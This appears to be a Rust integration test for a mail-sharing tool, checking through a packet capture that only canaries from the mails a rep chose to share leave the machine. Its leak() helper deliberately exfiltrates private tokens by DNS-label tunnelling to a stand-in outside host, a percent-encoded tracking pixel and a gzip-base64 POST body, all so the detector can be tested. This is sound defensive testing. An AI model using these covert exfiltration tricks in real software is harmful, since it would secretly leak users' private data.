//! Nothing of a mail leaves the computer but what the rep shared: proved on the wire, mail by mail.
//!
//! Every message of the mailbox carries tokens of its own. The whole journey runs in a network of its own, in which all
//! packets are written down; what was sent is decoded in every way we know, and the tokens in it must be those that
//! stand in the three previews and the chosen files. The same check must find leaks that are made on purpose.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::Path;
use std::thread;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::GzEncoder;
use kit::crm::CrmServer;
use kit::decode::{canaries, canaries_of};
use kit::lab::{ALICE, Lab, Service};
use kit::mailbox::{Truth, generate, three};
use kit::rep::{RATE, Rep, know};
use kit::wire::flow::{names_asked_for, sent};
use kit::wire::{Capture, Packet, apart};
use tokio::runtime::Runtime;

/// Everything a capture shows of what left.
struct Left {
    canaries: BTreeSet<String>,
    /// What was asked of DNS servers.
    names: BTreeSet<String>,
    /// Packets that went beyond the computer, and where to.
    outside: Vec<SocketAddr>,
}

impl Left {
    /// `servers` only answer.
    fn read(packets: &[Packet], servers: &[SocketAddr]) -> Self {
        let pieces = sent(packets, servers);
        Self {
            canaries: canaries_of(pieces.iter().map(Vec::as_slice)),
            names: names_asked_for(packets),
            outside: packets.iter().filter(|packet| packet.outside).map(|packet| packet.to).collect(),
        }
    }
}

/// The journey with three shared mails, one of them taken back; gives the canaries that the rep agreed to.
fn journey(folder: &Path, lab: &Lab, server: &CrmServer, chosen: &[&Truth]) -> BTreeSet<String> {
    let rep = Rep::connected(folder, lab, &server.url());
    rep.otomo.run_until_idle(RATE);
    let shared = rep.share_all(chosen);
    rep.otomo.run_until_idle(RATE);
    assert_eq!(server.keys().len(), 3);
    let files = shared.iter().flat_map(|mail| &mail.files);
    let files: Vec<_> = files.map(|sha256| server.attachment(*sha256).expect("a file in the CRM")).collect();
    let previews = shared.iter().map(|mail| mail.payload.as_bytes());
    let agreed = canaries_of(previews.chain(files.iter().map(|file| &file[..])));
    rep.retract_one();
    rep.otomo.run_until_idle(RATE);
    assert_eq!(server.keys().len(), 2);
    agreed
}

/// That the rep agreed to something, and to nothing of another mail.
fn check_agreed(agreed: &BTreeSet<String>, chosen: &[&Truth]) {
    for mail in chosen {
        for place in ["subject", "text"] {
            assert!(agreed.contains(&mail.canaries[place]), "{place} of {} is in its preview", mail.file);
        }
    }
    let files = chosen.iter().filter_map(|mail| mail.canaries.get("att1"));
    assert!(files.clone().count() >= 2 && files.clone().all(|token| agreed.contains(token)), "files went along");
    let own: BTreeSet<String> =
        chosen.iter().flat_map(|mail| mail.canaries.values()).flat_map(|t| canaries(t.as_bytes())).collect();
    assert!(agreed.is_subset(&own), "{:?}", agreed.difference(&own));
}

/// Sends a token as a part of a name to a DNS server far away.
fn ask_outside(token: &str) {
    let name = URL_SAFE_NO_PAD.encode(token);
    let mut query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0".to_vec();
    for label in [&name[..20], &name[20..], "example"] {
        query.push(u8::try_from(label.len()).expect("a short label"));
        query.extend(label.as_bytes());
    }
    query.extend(b"\0\0\x01\0\x01");
    let socket = UdpSocket::bind("0.0.0.0:0").expect("a socket");
    socket.send_to(&query, "198.51.100.53:53").expect("a way out");
}

/// Sends a request to a server on this computer, which takes it and says nothing.
fn request(text: &str) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a loopback port");
    let address = listener.local_addr().expect("its address");
    let taking = thread::spawn(move || {
        let (mut stream, _) = listener.accept().expect("a connection");
        stream.read_to_end(&mut Vec::new()).expect("a request")
    });
    TcpStream::connect(address).expect("a connection").write_all(text.as_bytes()).expect("a request sent");
    assert_eq!(taking.join().expect("a server"), text.len());
}

/// Lets three tokens out on purpose, each in a way that nobody would read with bare eyes.
fn leak(tokens: &[String; 3]) {
    let [name, query, body] = tokens;
    ask_outside(name);
    let percent: String = query.bytes().map(|b| format!("%{b:02X}")).collect();
    request(&format!("GET /pixel?id={percent} HTTP/1.1\r\nHost: localhost\r\n\r\n"));
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    gzip.write_all(format!("{{\"text\":\"{body}\"}}").as_bytes()).expect("compressed");
    let packed = STANDARD.encode(gzip.finish().expect("compressed"));
    request(&format!("POST /log HTTP/1.1\r\nHost: localhost\r\n\r\n{{\"data\":\"{packed}\"}}"));
}

#[test]
fn nothing_leaves_but_what_the_rep_shared_and_a_planted_leak_is_found() {
    let folder = tempfile::tempdir().expect("folder");
    let truth = generate(&folder.path().join("box"), &["--count", "2000", "--canary", "cnry", "--big", "12,25,60"]);
    let chosen = three(&truth);
    apart(|| {
        let runtime = Runtime::new().expect("a runtime");
        let lab = Lab::start(&[Service::Dovecot, Service::Dnsmasq]);
        assert_eq!(lab.deliver_maildir(ALICE.address, &folder.path().join("box")), 2003);
        let server = runtime.block_on(CrmServer::start());
        know(&server, chosen.iter().copied());
        let imap = SocketAddr::new(lab.dns().ip(), lab.imaps().port);
        let servers = [server.address(), lab.dns()];

        let capture = Capture::start(imap);
        let agreed = journey(folder.path(), &lab, &server, &chosen);
        let left = Left::read(&capture.stop(), &servers);
        check_agreed(&agreed, &chosen);
        assert_eq!(left.canaries, agreed);
        assert_eq!(left.names, BTreeSet::from(["mail.example.test".to_owned()]));
        assert_eq!(left.outside, [], "nothing goes beyond the computer");

        let private = truth.iter().filter(|mail| !chosen.iter().any(|shared| shared.file == mail.file));
        let planted: Vec<String> = private.take(3).map(|mail| mail.canaries["text"].clone()).collect();
        let planted: [String; 3] = planted.try_into().expect("three mails");
        let capture = Capture::start(imap);
        leak(&planted);
        let left = Left::read(&capture.stop(), &servers);
        assert_eq!(left.canaries, BTreeSet::from(planted));
        assert_eq!(left.outside, [SocketAddr::from(([198, 51, 100, 53], 53))]);
        assert!(left.names.iter().any(|name| name.ends_with(".example")), "{:?}", left.names);
    });
}
